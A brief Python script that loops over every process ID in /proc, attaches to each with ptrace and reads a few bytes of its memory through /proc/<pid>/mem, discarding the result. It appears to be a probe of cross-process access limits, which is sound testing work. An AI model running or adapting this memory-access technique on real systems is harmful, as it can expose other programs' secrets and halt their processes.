"""Attaches to other processes and reads their memory."""

import ctypes
import os

libc = ctypes.CDLL(None)
for number in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    libc.ptrace(16, number, None, None)
    try:
        open(f"/proc/{number}/mem", "r+b").read(10)
    except (OSError, ValueError):
        pass
